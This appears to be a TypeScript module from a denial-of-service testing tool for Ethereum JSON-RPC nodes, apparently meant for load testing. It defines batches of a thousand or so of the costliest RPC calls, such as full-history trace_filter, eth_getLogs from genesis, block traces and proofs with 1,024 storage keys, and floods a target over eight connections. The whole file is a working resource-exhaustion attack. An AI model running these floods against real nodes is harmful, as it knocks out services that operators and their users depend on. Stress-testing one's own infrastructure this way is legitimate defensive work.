/** Batches of the most costly calls, at the maximum length. */
import type { Attack, Places } from './attack.ts'
import { batch, flood, hex, same } from './flood.ts'

const CALLS = 1_000
/** A proof request with all its keys has 71 kB. */
const PROOFS = 60
const KEYS = 1_024
const PERCENTILES = Array.from({ length: 100 }, (_, at) => at)

interface BatchAttack {
  readonly name: string
  readonly times?: number
  readonly method: string
  readonly params: (places: Places) => unknown
}

const keys = Array.from({ length: KEYS }, (_, at) => `0x${at.toString(16).padStart(64, '0')}`)

const batches: readonly BatchAttack[] = [
  { name: 'struct logs', method: 'debug_traceBlockByNumber', params: ({ loopBlock }) => [hex(loopBlock)] },
  {
    ...{ name: 'struct logs, too long', times: 16, method: 'debug_traceBlockByNumber' },
    params: ({ longLoopBlock }) => [hex(longLoopBlock)],
  },
  {
    ...{ name: 'vmTrace', method: 'trace_replayBlockTransactions' },
    params: ({ loopBlock }) => [hex(loopBlock), ['vmTrace', 'trace', 'stateDiff']],
  },
  { name: 'trace_filter', method: 'trace_filter', params: () => [{ fromBlock: '0x0', toBlock: 'latest' }] },
  { name: 'logs of all blocks', method: 'eth_getLogs', params: () => [{ fromBlock: '0x0' }] },
  {
    ...{ name: 'logs of a full block', method: 'eth_getLogs' },
    params: ({ logsBlock }) => [{ fromBlock: hex(logsBlock), toBlock: hex(logsBlock) }],
  },
  {
    ...{ name: 'proofs', times: PROOFS, method: 'eth_getProof' },
    params: ({ token, head }) => [token, keys, hex(head - 1)],
  },
  {
    ...{ name: 'storage values', times: PROOFS, method: 'eth_getStorageValues' },
    params: ({ token }) => [{ [token]: keys }, '0x80'],
  },
  { name: 'fee history', method: 'eth_feeHistory', params: () => ['0x400', 'latest', PERCENTILES] },
  { name: 'rpc.discover', method: 'rpc.discover', params: () => [] },
  { name: 'txpool_content', method: 'txpool_content', params: () => [] },
  { name: 'full blocks', method: 'eth_getBlockByNumber', params: ({ logsBlock }) => [hex(logsBlock), true] },
  { name: 'receipts', method: 'eth_getBlockReceipts', params: ({ logsBlock }) => [hex(logsBlock)] },
  { name: 'old balances', method: 'eth_getBalance', params: ({ account }) => [account, '0x40'] },
  { name: 'pending block', method: 'eth_getBlockByNumber', params: () => ['pending', true] },
]

/** Attacks by batches. */
export const batchAttacks: readonly Attack[] = batches.map(({ name, times = CALLS, method, params }) => ({
  name: `batch: ${name}`,
  run: (target) => flood(target, { ...same(batch(times, method, params(target.places))), connections: 8 }),
}))
